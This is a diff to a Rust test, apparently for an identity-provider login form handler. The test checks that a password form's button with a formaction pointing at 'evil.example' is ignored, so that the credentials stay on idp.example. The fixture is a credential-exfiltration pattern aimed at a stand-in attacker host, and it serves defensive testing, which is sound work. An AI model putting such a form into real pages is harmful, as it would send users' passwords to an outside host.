@@ -330,9 +330,11 @@ fn a_page_to_leave_by_is_not_taken_for_one_that_leads_on() {
         menu_of(after("p", stay)),
         [("Yes".to_owned(), "t=1 stay=yes".to_owned()), ("No".to_owned(), "t=1 stay=no".to_owned())]
     );
-    let elsewhere = "<form method=post><input name=user><input type=password name=p><button formaction='https://evil.example/'>Go</button></form>";
+    let elsewhere = "<form method=post><input name=user><input type=password name=p><button name=x value=1 formaction='https://evil.example/'>Go</button><button name=go value=2>Go</button></form>";
     let Step::Ask { form, .. } = first(elsewhere) else { panic!("a password form") };
-    assert_eq!(form.submitted(&[]).url.host_str(), Some("idp.example"), "a button leads nowhere else");
+    let request = form.submitted(&[]);
+    assert_eq!(request.url.host_str(), Some("idp.example"), "a button leads nowhere else");
+    assert_eq!(sent(&request), "user= p= go=2");
 }
 
 proptest! {
